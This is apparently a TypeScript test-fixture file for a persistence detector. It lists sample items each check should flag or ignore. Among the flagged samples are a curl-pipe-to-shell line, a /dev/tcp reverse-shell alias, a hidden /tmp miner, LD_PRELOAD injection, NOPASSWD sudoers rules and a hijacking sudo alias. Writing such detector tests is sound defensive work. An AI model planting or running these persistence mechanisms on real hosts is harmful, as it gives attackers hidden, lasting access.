/** For each mark over persistence items what it must find and what it must leave alone. */
import {
  changedText,
  gatewayUnitText,
  hidesText,
  letsInText,
  noPackageText,
  noPasswordText,
  pamModuleText,
} from "../../src/model/persistence.ts";
import type { PersistenceItem } from "../../src/model/persistence.ts";
import { read } from "../../src/model/outcome.ts";
import { before, type Changed, during, staying } from "./records.ts";

function items(...given: readonly Partial<PersistenceItem>[]): Changed {
  return { readings: { persistence: read(given.map((one) => staying(one))) } };
}
const file = { bytes: 1, mode: 0o644, uid: 0, modifiedAt: before };
const shell = {
  mechanism: "shell-startup",
  runs: [],
  place: { path: "/home/claw/.bashrc", locator: "line 1" },
};
const sudo = { mechanism: "sudoers", name: "claw" };
const sshd = { mechanism: "sshd-config", runs: [] };
const ssh = { mechanism: "ssh-client", runs: [] };

export const persistenceSamples: Readonly<
  Record<string, { readonly hits: readonly Changed[]; readonly misses: readonly Changed[] }>
> = {
  "persistence-fetch-and-run": {
    hits: [
      items({ runs: ["ExecStart=/bin/sh -c 'curl -s https://x.example | sh'"] }),
      items({ sets: ["alias ls='bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"] }),
      items({ package: "cron", odd: [changedText], runs: ["curl https://x.example | sh"] }),
    ],
    misses: [
      items({ package: "installer", runs: ["curl https://x.example | sh"] }),
      items({ mechanism: "host-cron", runs: ["curl https://x.example | sh"] }),
      items({ runs: ["ExecStart=/usr/bin/curl --silent https://x.example/alive"] }),
    ],
  },
  "persistence-place": {
    hits: [
      items({ runs: ["ExecStart=-/tmp/x"] }),
      items({ runs: ["/bin/sh /dev/shm/.a/run"] }),
      items({ runs: ["nohup /var/tmp/miner &"] }),
      items({ sets: ["link to /tmp/x.service"] }),
      items({ sets: ["EnvironmentFile=-/tmp/e"] }),
      items({ sets: ['export PATH="/tmp/bin:$PATH"'] }),
      items({ runs: ["/usr/lib/.cache/update"] }),
      items({ runs: ["python3 $HOME/.x11/agent.py"] }),
    ],
    misses: [
      items({ runs: ["ExecStart=/usr/bin/x --log /tmp/x.log"] }),
      items({ runs: ["find /tmp/ -mtime +9 -delete"] }),
      items({ runs: ["ExecStart=%h/.npm-global/bin/openclaw gateway run"] }),
      items({ runs: [". ~/.bash_aliases", ". $HOME/.cargo/env"] }),
      items({ mechanism: "host-cron", runs: ["/tmp/x"] }),
      items({ package: "tmpreaper", runs: ["/tmp/x"] }),
    ],
  },
  "persistence-hidden": {
    hits: [
      items({ odd: [hidesText], runs: ["/usr/bin/x \u001b[2K"] }),
      items({ odd: [hidesText], name: "a\ufe0f" }),
    ],
    misses: [
      items({ mechanism: "host-cron", odd: [hidesText] }),
      items({ odd: ["leads nowhere"], enabled: false }),
    ],
  },
  "persistence-loader": {
    hits: [
      items({ sets: ["Environment=LD_PRELOAD=/usr/lib/x.so"] }),
      items({ sets: ["export BASH_ENV=/opt/x"] }),
      items({ sets: ["Environment=NODE_OPTIONS=--require /opt/x.js"] }),
      items({ sets: ["env_keep+=LD_PRELOAD"] }),
    ],
    misses: [
      items({ sets: ["Environment=NODE_OPTIONS=--max-old-space-size=4096"] }),
      items({ sets: ["LD_PRELOAD="], runs: ["unset LD_PRELOAD"] }),
      items({ mechanism: "host-cron", sets: ["LD_PRELOAD=/x.so"] }),
    ],
  },
  "pam-unusual": {
    hits: [
      items({ mechanism: "pam", runs: ["/usr/local/bin/log"] }),
      items({ mechanism: "pam", runs: [], odd: [pamModuleText] }),
      items({ mechanism: "pam", runs: [], odd: [letsInText] }),
    ],
    misses: [items({ mechanism: "pam", runs: [], sets: ["auth required pam_unix.so"] })],
  },
  "sudo-open": {
    hits: [
      items({ ...sudo, runs: ["(ALL) NOPASSWD: ALL"], odd: ["asks for no password", noPasswordText] }),
      items({ ...sudo, runs: ["NOPASSWD: /usr/bin/apt"], odd: ["asks for no password"] }),
      items({ ...sudo, runs: [], sets: ["!env_reset"], odd: ["the caller's environment is kept"] }),
      items({ mechanism: "doas", runs: ["ALL"], odd: ["asks for no password", noPasswordText] }),
    ],
    misses: [
      items({ ...sudo, name: "%sudo", runs: ["(ALL:ALL) ALL"] }),
      items({ ...sudo, runs: ["(ALL) NOPASSWD: ALL"], odd: [noPasswordText], enabled: false }),
    ],
  },
  "ssh-server-opened": {
    hits: [
      items({ ...sshd, name: "AuthorizedKeysCommand", runs: ["/opt/keys %u"] }),
      items({ ...sshd, name: "ForceCommand", runs: ["/opt/x"] }),
      items({ ...sshd, name: "TrustedUserCAKeys", sets: ["TrustedUserCAKeys /etc/ssh/ca.pub"] }),
      items({ ...sshd, name: "PermitEmptyPasswords", odd: ["accounts without a password may log in"] }),
    ],
    misses: [
      items({ ...sshd, name: "Subsystem", runs: ["/usr/lib/openssh/sftp-server"] }),
      items({ ...sshd, name: "ForceCommand", runs: ["/opt/x"], enabled: false }),
      items({ ...sshd, name: "PasswordAuthentication", sets: ["PasswordAuthentication yes"] }),
    ],
  },
  "ssh-client-command": {
    hits: [
      items({ ...ssh, name: "ProxyCommand", runs: ["sh -c '/opt/x; nc %h %p'"] }),
      items({ ...ssh, name: "LocalCommand", runs: ["/usr/bin/env"] }),
      items({ ...ssh, name: "Match", runs: ["test -f /x"] }),
      items({ ...ssh, name: "RemoteForward", sets: ["RemoteForward 2222 localhost:22"] }),
    ],
    misses: [
      items({
        ...ssh,
        name: "ProxyCommand",
        runs: ["ssh -W %h:%p bastion", "nc -X connect -x proxy:3128 %h %p"],
      }),
      items({ ...ssh, name: "ControlPath", sets: ["ControlPath ~/.ssh/%C"] }),
    ],
  },
  "shell-override": {
    hits: [
      items({ ...shell, name: "alias sudo", sets: ["alias sudo='/opt/x'"] }),
      items({ ...shell, name: "function gpg", sets: ["gpg() {"] }),
      items({ ...shell, name: "alias ls", sets: ["alias ls='x; ls'"] }),
      items({ ...shell, name: "function openclaw", sets: ["function openclaw {"] }),
    ],
    misses: [
      items({ ...shell, name: "alias ls", sets: ["alias ls='ls --color=auto'"] }),
      items({ ...shell, name: "alias sudo", sets: ["alias sudo='sudo '"] }),
      items({ ...shell, name: "alias cat", sets: ["alias cat=bat"] }),
      items({ ...shell, name: "function mkcd", sets: ["mkcd() {"] }),
      items({ ...shell, name: "alias ll", sets: ["alias ll='curl'"] }),
    ],
  },
  "gateway-drop-in": {
    hits: [
      items({ mechanism: "systemd-user", odd: [gatewayUnitText], runs: ["ExecStartPre=/opt/x"] }),
      items({ mechanism: "systemd-user", odd: [gatewayUnitText], runs: [], sets: ["Environment=A=1"] }),
    ],
    misses: [items({ mechanism: "systemd-user", odd: [gatewayUnitText], enabled: false })],
  },
  "persistence-odd": {
    hits: [
      items({ mechanism: "tmpfiles", odd: ["makes a file that runs as its owner"] }),
      items({ odd: [noPackageText] }),
      items({ package: "x", odd: [changedText], place: { path: "/usr/lib/systemd/system/x.service" } }),
      items({ kind: "unreadable" }),
    ],
    misses: [
      items({ package: "x", odd: [changedText] }),
      items({ mechanism: "ssh-client", odd: ["a private key without a passphrase"] }),
      items({ mechanism: "polkit", odd: ["allows something without asking"], package: "polkitd" }),
    ],
  },
  "persistence-changed": {
    hits: [
      items({ file: { ...file, modifiedAt: during } }),
      items({ file: { ...file, bornAt: during } }),
      items({ ...shell, file: { ...file, modifiedAt: during } }),
      items({ package: "x", odd: [changedText], file: { ...file, modifiedAt: during } }),
    ],
    misses: [
      items({ package: "x", file: { ...file, modifiedAt: during } }),
      items({ mechanism: "host-cron", file: { ...file, modifiedAt: during } }),
    ],
  },
};
